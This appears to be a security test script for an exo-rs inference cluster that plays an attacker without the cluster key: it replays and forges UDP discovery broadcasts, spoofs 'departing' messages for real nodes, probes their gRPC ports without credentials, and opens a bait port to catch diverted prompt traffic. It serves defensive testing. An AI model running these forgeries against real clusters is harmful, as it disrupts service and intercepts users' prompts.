"""A host on the cluster's network without the key. It records real announcements and
replays them, forges announcements (a huge-memory node that would become shard 0) and
"departing" datagrams for the real nodes, calls their gRPC ports in plain text and over
TLS without a client certificate, and keeps a bait port open where a fooled node would
send prompt work. Prints a JSON summary of what it achieved (the test wants nothing)."""
import json
import os
import socket
import ssl
import sys
import threading
import time

DISCOVERY = 52416
nodes = sys.argv[1].split(",")          # the real nodes' IPs
grpc_port = int(sys.argv[2])            # their gRPC port
broadcast, bait_port, done_file = sys.argv[3], int(sys.argv[4]), sys.argv[5]
node_ids = sys.argv[6].split(",")

bait = {"connections": 0, "bytes": 0}
def serve_bait():
    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("0.0.0.0", bait_port))
    server.listen()
    server.settimeout(0.2)
    while not os.path.exists(done_file):
        try:
            conn, _ = server.accept()
        except socket.timeout:
            continue
        bait["connections"] += 1
        conn.settimeout(1)
        try:
            while data := conn.recv(65536):
                bait["bytes"] += len(data)
        except OSError:
            pass
threading.Thread(target=serve_bait, daemon=True).start()

# Record real datagrams off the wire.
rx = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
rx.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
rx.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
rx.bind(("", DISCOVERY))
rx.settimeout(10)
recorded = []
while len(recorded) < 6:
    data, (ip, _) = rx.recvfrom(9000)
    if ip in nodes:
        recorded.append(data)

def announcement(node_id, departing):
    return json.dumps({
        "protocol": "exo-rs", "version": 1, "node_id": node_id, "grpc_port": bait_port,
        "model_id": "smollm2-135m", "interface_priority": 3,
        "capabilities": {"memory_bytes": 1 << 50, "available_memory_bytes": 1 << 50,
                         "cpu_model": "forged", "cpu_cores": 512, "gpu_name": None,
                         "gpu_memory_bytes": 0, "engine_device": "cpu"},
        "departing": departing, "sent_at_ms": int(time.time() * 1000), "nonce": os.urandom(16).hex(),
    }).encode()

tx = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
tx.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
sent = 0
end = time.time() + 3
while time.time() < end:
    datagrams = [announcement("mallory", False)]
    datagrams += [announcement(node_id, True) for node_id in node_ids]
    datagrams += recorded
    for datagram in datagrams:
        tx.sendto(datagram, (broadcast, DISCOVERY))
        sent += 1
    time.sleep(0.1)

def plain_call(ip):
    """An HTTP/2 preface and a gRPC HealthCheck HEADERS-less probe: any HTTP/2 frame back
    would mean the node speaks to strangers."""
    try:
        with socket.create_connection((ip, grpc_port), timeout=3) as conn:
            conn.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00")
            reply = conn.recv(64)
            # A TLS alert (0x15) or a closed socket: refused. An HTTP/2 SETTINGS frame: served.
            return len(reply) >= 9 and reply[3] == 0x04
    except OSError:
        return False

def tls_call(ip):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    try:
        with socket.create_connection((ip, grpc_port), timeout=3) as raw:
            with context.wrap_socket(raw, server_hostname="exo-node") as conn:
                conn.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00")
                reply = conn.recv(64)
                return len(reply) >= 9 and reply[3] == 0x04
    except (OSError, ssl.SSLError):
        return False

served_plain = [ip for ip in nodes if plain_call(ip)]
served_tls = [ip for ip in nodes if tls_call(ip)]
print(json.dumps({"phase": "attacked", "datagrams_sent": sent, "replayed": len(recorded)}), flush=True)
while not os.path.exists(done_file):
    time.sleep(0.1)
print(json.dumps({"bait": bait, "served_plain": served_plain, "served_tls": served_tls}), flush=True)
